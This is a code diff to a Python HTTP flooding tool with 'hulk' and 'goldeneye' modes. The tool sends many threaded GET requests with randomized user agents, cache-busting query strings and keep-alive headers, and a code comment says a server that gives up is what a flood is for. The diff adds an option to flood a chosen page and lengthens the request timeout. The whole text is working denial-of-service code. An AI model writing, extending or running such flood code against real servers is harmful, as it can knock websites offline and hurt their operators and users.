@@ -23,11 +23,12 @@ _AGENTS = (
 
 @dataclass(frozen=True)
 class Target:
-    """What is flooded, and the longest pause of a thread between requests."""
+    """What is flooded, the longest pause of a thread between requests, and the page asked for."""
 
     host: str
     port: int
     pause_s: float
+    page: str = "/"
 
 
 def main() -> None:
@@ -42,11 +43,12 @@ def main() -> None:
     parser.add_argument("--seed", type=int, default=0)
     # Without pauses the whole flood would be over in a blink.
     parser.add_argument("--pause-s", type=float, default=0.2, help="longest of a thread between requests")
+    parser.add_argument("--page", default="/")
     given = parser.parse_args()
     flood = hulk if given.style == "hulk" else goldeneye
     deadline_s = time.monotonic() + given.limit_s
     share = given.requests // given.threads
-    target = Target(given.host, given.port, given.pause_s)
+    target = Target(given.host, given.port, given.pause_s, given.page)
     threads = [
         threading.Thread(target=flood, args=(target, share, deadline_s, random.Random(given.seed + number)))
         for number in range(given.threads)
@@ -62,8 +64,8 @@ def hulk(target: Target, count: int, deadline_s: float, chance: random.Random) -
     for _ in range(count):
         if time.monotonic() > deadline_s:
             return
-        connection = http.client.HTTPConnection(target.host, target.port, timeout=5)
-        _ask(connection, chance)
+        connection = http.client.HTTPConnection(target.host, target.port, timeout=20)
+        _ask(connection, target.page, chance)
         connection.close()
         time.sleep(chance.uniform(0, target.pause_s))
 
@@ -74,12 +76,14 @@ def goldeneye(target: Target, count: int, deadline_s: float, chance: random.Rand
     for _ in range(count):
         if time.monotonic() > deadline_s:
             break
-        _ask(connection, chance, {"Connection": "keep-alive", "Keep-Alive": str(chance.randint(110, 120))})
+        _ask(connection, target.page, chance, {"Connection": "keep-alive", "Keep-Alive": str(chance.randint(110, 120))})
         time.sleep(chance.uniform(0, target.pause_s))
     connection.close()
 
 
-def _ask(connection: http.client.HTTPConnection, chance: random.Random, more: dict[str, str] | None = None) -> None:
+def _ask(
+    connection: http.client.HTTPConnection, page: str, chance: random.Random, more: dict[str, str] | None = None
+) -> None:
     words = ["".join(chance.choices(string.ascii_letters, k=chance.randint(3, 10))) for _ in range(4)]
     headers = {
         "User-Agent": chance.choice(_AGENTS),
@@ -88,7 +92,7 @@ def _ask(connection: http.client.HTTPConnection, chance: random.Random, more: di
         "Accept-Charset": "ISO-8859-1,utf-8;q=0.7,*;q=0.7",
     }
     try:
-        connection.request("GET", f"/?{words[1]}={words[2]}&{words[3]}", headers=headers | (more or {}))
+        connection.request("GET", f"{page}?{words[1]}={words[2]}&{words[3]}", headers=headers | (more or {}))
         connection.getresponse().read()
     except (http.client.HTTPException, OSError):
         # A server that gives up is what a flood is for; the next request tries again.
